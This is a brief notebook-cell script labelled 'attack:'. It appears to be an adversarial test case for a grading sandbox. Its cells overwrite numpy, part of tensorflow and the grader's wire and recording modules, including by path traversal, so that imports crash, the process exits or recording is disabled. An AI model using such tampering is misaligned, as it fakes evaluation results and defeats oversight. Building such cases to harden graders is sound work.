# attack: %%writefile writes modules over those that the grader's side of the jail may import later
# %% cell added
%%writefile numpy.py
raise RuntimeError
# %% cell make_data
%%writefile -a tensorflow/python/eager/context.py
raise SystemExit
# %% cell mixture_likelihood
%%writefile /grader/wire.py
def pack(value, limit=0): return b""
# %% cell mixture_posterior_logits
%%writefile ../../grader/recording.py
import os; os._exit(0)
# %% cell mstep
%run -i numpy.py
import importlib, sys
for name in ("recording", "wire", "cells", "confinement"):
    sys.modules.pop(name, None)
def mstep(x, posterior):
    get_ipython().run_cell_magic("writefile", "recording.py", "Recorder = None")
    return 0, 0, 0
